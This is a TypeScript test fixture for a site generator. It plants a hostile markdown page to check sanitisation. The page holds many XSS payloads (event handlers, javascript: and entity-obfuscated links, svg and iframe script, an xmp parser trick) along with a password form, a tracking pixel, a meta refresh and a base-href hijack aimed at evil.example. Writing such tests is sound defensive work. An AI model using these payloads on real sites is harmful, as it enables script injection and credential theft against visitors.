/** A site of the second demo brand with content of tests, in a folder that they may edit; shared by the files that use it. */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test as base } from './fixtures.ts'
import { copySaltgrass, removeFolder, startSaltgrass } from './saltgrass-site.ts'

/** What an editor, or somebody with an editor's password, could write to run in a visitor's browser. */
export const hostilePath = '/about/hostile'
const hostilePage = `---
id: 9002
title: '<img src=x onerror="alert(1)"> Fish &amp;amp; chips'
date: 2026-10-01T15:00:00Z
excerpt: '<script>alert(2)</script>Before'
fields:
  template: default
---

Before.

<div>
<script>alert(3)</script>
<img src="/nowhere.png" onerror="alert(4)" alt="a picture">
<a id="link" href="javascript:alert(5)">a link</a>
<a id="entity" href="jav&#x09;ascript:alert(6)">another</a>
<svg onload="alert(7)"><script>alert(8)</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert(9)</script>"></iframe>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<xmp><p title="</xmp><img src=x onerror=alert(10)>"></xmp>
<style>body { background: url(https://evil.example/pixel) }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<details ontoggle="alert(11)" open><summary>more</summary></details>
</div>

After.
`

/** Protected by its flag, not by its address. */
export const flaggedPath = '/about/for-our-agents'
export const flaggedWords = 'The lockbox code is on the back of the gate'
export const password = 'high-tide'
const flaggedPage = `---
id: 9001
title: For our agents
date: 2026-10-01T15:00:00Z
password: ${password}
fields:
  template: default
  protected: true
---

${flaggedWords}.
`

/** What only some visitors are asked, as forms of Gravity Forms may. */
async function addConditions(file: string): Promise<void> {
  const form = JSON.parse(await readFile(file, 'utf8')) as { fields: Record<string, unknown>[] }
  const rules = [{ fieldId: '5', operator: 'is', value: 'new-partner' }]
  for (const field of form.fields)
    if (['Trade', 'Regions you cover'].includes(String(field['label'])))
      field['conditionalLogic'] = { actionType: 'show', logicType: 'all', rules }
  await writeFile(file, JSON.stringify(form))
}

export const test = base.extend<object, { contentDir: string }>({
  contentDir: [
    async ({}, use) => {
      const folder = await copySaltgrass()
      const contentDir = join(folder, 'content')
      await writeFile(join(contentDir, 'pages', 'about', 'hostile.md'), hostilePage)
      await writeFile(join(contentDir, 'pages', 'about', 'for-our-agents.md'), flaggedPage)
      await addConditions(join(contentDir, 'forms', 'trade-partner.json'))
      await use(contentDir)
      await removeFolder(folder)
    },
    { scope: 'worker' },
  ],
  site: [
    async ({ contentDir }, use) => {
      const site = await startSaltgrass(join(contentDir, '..'), { CONTENT_FOLDER: contentDir })
      // Only its address matters here.
      await use(site as Parameters<typeof use>[0])
      await site.close()
    },
    { scope: 'worker' },
  ],
})
